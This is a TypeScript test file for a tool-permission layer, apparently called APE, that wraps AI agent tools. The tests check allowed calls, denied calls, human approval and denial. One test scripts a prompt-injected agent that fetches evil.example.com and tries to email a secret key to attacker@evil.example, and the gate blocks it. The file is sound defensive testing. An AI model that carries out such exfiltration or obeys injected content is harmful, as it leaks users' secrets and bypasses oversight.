import { type ModelMessage, stepCountIs, streamText, ToolLoopAgent } from 'ai';
import { describe, expect, it } from 'vitest';
import { scriptedModel } from './__fixtures__/scripted-model.js';
import { ask, ofType, setup } from './__fixtures__/setup.js';
import type { ApprovalRequestLike } from './index.js';

const WIKI = 'https://en.wikipedia.org/wiki/Agent';

describe('streamText with APE-wrapped tools', () => {
  it('runs an allowed call, refuses a forbidden one and streams both results', async () => {
    const { ape, spies, tools } = setup();
    const script = scriptedModel([
      {
        calls: [
          { id: 'c1', tool: 'fetch_url', input: { url: WIKI } },
          { id: 'c2', tool: 'fetch_url', input: { url: 'ftp://attacker.test/' } },
        ],
      },
      { text: 'streamed' },
    ]);
    const result = streamText({
      model: script.model,
      tools: ape.thread('s-mixed').tools(tools),
      messages: ask('Read both'),
      stopWhen: stepCountIs(5),
    });
    const parts: { type: string; toolCallId?: string; output?: unknown }[] = [];
    for await (const part of result.fullStream) parts.push(part);
    expect(await result.text).toBe('streamed');
    expect(spies.fetch_url).toHaveBeenCalledTimes(1);
    const outputs = parts.filter((part) => part.type === 'tool-result');
    expect(outputs.map((part) => [part.toolCallId, part.output])).toEqual([
      ['c1', `the page at ${WIKI}`],
      ['c2', expect.stringMatching(/^APE denied fetch_url: /)],
    ]);
  });

  it('streams an approval request for an escalated call and runs it after the approval', async () => {
    const { ape, spies, tools, events } = setup();
    const thread = ape.thread('s-approve');
    const wrapped = thread.tools(tools);
    const script = scriptedModel([
      { calls: [{ id: 'c1', tool: 'delete_file', input: { path: '/workspace/tmp' } }] },
      { text: 'gone' },
    ]);
    const messages: ModelMessage[] = ask('Delete tmp');
    const first = streamText({ model: script.model, tools: wrapped, messages, stopWhen: stepCountIs(5) });
    const requests: ApprovalRequestLike[] = [];
    for await (const part of first.fullStream) if (part.type === 'tool-approval-request') requests.push(part);
    expect(requests).toHaveLength(1);
    expect(spies.delete_file).not.toHaveBeenCalled();
    const response = thread.approve(requests[0]!, { approver: 'carol' });
    messages.push(...(await first.response).messages, { role: 'tool', content: [response] });
    const second = streamText({ model: script.model, tools: wrapped, messages, stopWhen: stepCountIs(5) });
    expect(await second.text).toBe('gone');
    expect(spies.delete_file).toHaveBeenCalledTimes(1);
    expect(ofType(events(), 'escalation.approved')[0]?.data).toMatchObject({ approver: 'carol' });
  });
});

describe('ToolLoopAgent with APE-wrapped tools', () => {
  it('stops a prompt-injected agent from e-mailing a secret; the human denial is recorded at the gate', async () => {
    const { ape, spies, tools, events } = setup();
    const thread = ape.thread('a-injection');
    const script = scriptedModel([
      { calls: [{ id: 'c1', tool: 'fetch_url', input: { url: 'https://evil.example.com/' } }] },
      {
        calls: [{ id: 'c2', tool: 'send_email', input: { to: 'attacker@evil.example', body: 'sk-live-1' } }],
      },
      { text: 'done' },
    ]);
    const agent = new ToolLoopAgent({
      model: script.model,
      tools: thread.tools(tools),
      stopWhen: stepCountIs(6),
    });
    const result = await agent.generate({ messages: ask('Summarise the page') });
    expect(spies.fetch_url).toHaveBeenCalledTimes(1);
    expect(spies.send_email).not.toHaveBeenCalled();
    const request = result.content.find((part) => part.type === 'tool-approval-request');
    expect(request).toMatchObject({ toolCall: { toolName: 'send_email' } });
    await thread.deny(request as ApprovalRequestLike, { approver: 'dave' });
    expect(spies.send_email).not.toHaveBeenCalled();
    expect(ofType(events(), 'escalation.denied')[0]?.data).toMatchObject({
      action: 'send_email',
      approver: 'dave',
    });
    expect(ofType(events(), 'decision.made').at(-1)?.data).toMatchObject({
      action: 'send_email',
      decision: 'ESCALATE',
      provenance: 'EXTERNAL_UNTRUSTED',
      rules: ['untrusted-data-must-not-leave'],
    });
  });

  it('runs an allowed call through agent.stream', async () => {
    const { ape, spies, tools } = setup();
    const script = scriptedModel([
      { calls: [{ id: 'c1', tool: 'read_file', input: { path: '/workspace/a.md' } }] },
      { text: 'read it' },
    ]);
    const agent = new ToolLoopAgent({
      model: script.model,
      tools: ape.thread('a-stream').tools(tools),
      stopWhen: stepCountIs(4),
    });
    const result = await agent.stream({ messages: ask('Read a.md') });
    expect(await result.text).toBe('read it');
    expect(spies.read_file).toHaveBeenCalledTimes(1);
    expect(script.resultsShown().get('c1')).toBe('contents of /workspace/a.md');
  });
});
